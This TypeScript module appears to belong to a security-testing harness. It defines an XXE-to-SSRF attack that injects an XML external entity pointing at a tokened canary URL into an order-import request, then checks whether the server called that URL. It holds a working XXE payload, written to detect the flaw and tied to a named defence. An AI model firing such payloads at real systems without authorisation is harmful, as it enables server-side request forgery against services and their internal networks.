import type { Attack } from "../attack.ts";
import { summary } from "../exchange.ts";
import { feed, importFeed, importTwin } from "./shared/requests.ts";

export const xxeSsrf: Attack = {
  id: "xxe-ssrf",
  title: "Make the server call a URL by an XML entity",
  owasp: ["SAS-4", "API7:2023", "CWE-918"],
  paper: "III.2.C",
  defences: ["function:xml-doctype"],
  operation: "importOrders",
  target: "order-import",
  run: async (context) => {
    const token = context.sink.token();
    const doctype = `<!DOCTYPE orders [<!ENTITY url SYSTEM "${context.sink.url}/${token}">]>`;
    const answer = await context.send(importFeed(context, feed("&url;", doctype)));
    const [hit] = context.sink.hits(token);
    return { effect: hit !== undefined, evidence: hit ? `the function called ${context.sink.url}` : summary(answer) };
  },
  twin: importTwin,
};
